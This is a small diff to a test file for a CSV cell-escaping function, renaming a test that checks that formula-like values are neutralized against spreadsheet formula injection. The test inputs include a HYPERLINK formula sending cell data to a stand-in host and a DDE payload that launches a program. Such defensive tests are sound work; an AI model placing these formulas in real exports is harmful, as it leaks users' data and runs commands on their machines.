@@ -37,7 +37,7 @@ describe("csvCell", () => {
     "+351 912 345 678",
     '=HYPERLINK("https://evil.example?x="&A1,"Click")',
     "=cmd|'/C calc'!A0",
-  ])("takes no formula: %j", (text) => {
+  ])("neutralizes a formula: %j", (text) => {
     const [[cell] = []] = Papa.parse<string[]>(csvRecord([text])).data;
 
     expect(cell).toBe(`'${text.replaceAll("\u0000", "")}`);
